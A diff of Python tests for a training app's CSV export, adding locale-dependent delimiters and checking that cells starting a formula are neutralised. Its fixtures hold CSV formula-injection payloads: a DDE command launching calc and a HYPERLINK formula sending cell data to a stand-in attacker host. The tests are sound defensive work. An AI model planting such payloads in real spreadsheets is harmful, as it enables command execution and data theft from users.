@@ -323,7 +323,9 @@ def test_the_csv_export_opens_with_accents_in_spreadsheets(client, cohort, train
     assert response["Content-Type"] == "text/csv; charset=utf-8"
     assert "attachment" in response["Content-Disposition"]
     assert response.content.startswith(codecs.BOM_UTF8)
-    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    text = response.content.decode("utf-8-sig")
+    # French spreadsheets split on semicolons (their decimal separator is the comma).
+    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
     assert rows[0] == ["Apprenant·e", "Écoute active", "Passer le relais"]
     assert rows[1] == ["Inès Aubert", f"Terminé ({today()})", "En cours (50 %)"]
     assert rows[3] == ["Léa Caron", "Pas commencé", "Pas commencé"]
@@ -427,10 +429,23 @@ def hostile_cohort(modules, trainer):
     return make_cohort(modules, learners, trainers=[trainer], name="=cmd|' /C calc'!A0")
 
 
+def test_the_csv_export_of_an_english_reader_is_separated_by_commas(client, cohort, trainer):
+    from wagtail.users.models import UserProfile
+
+    profile = UserProfile.get_for_user(trainer)
+    profile.preferred_language = "en"
+    profile.save()
+    client.force_login(trainer)
+    text = client.get(report_url(cohort, "csv")).content.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text)))
+    assert rows[0][0] == "Learner" and len(rows[0]) == 3
+
+
 def test_the_csv_export_neutralises_cells_that_start_a_formula(client, hostile_cohort, trainer):
     client.force_login(trainer)
     response = client.get(report_url(hostile_cohort, "csv"))
-    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
+    text = response.content.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
     names = [row[0] for row in rows[1:]]
     assert '\'=HYPERLINK("https://evil.example/?x="&A1 Cliquez' in names
     assert "'+33 6 12 Plus" in names and "'@SUM(A1:A9) Arobase" in names
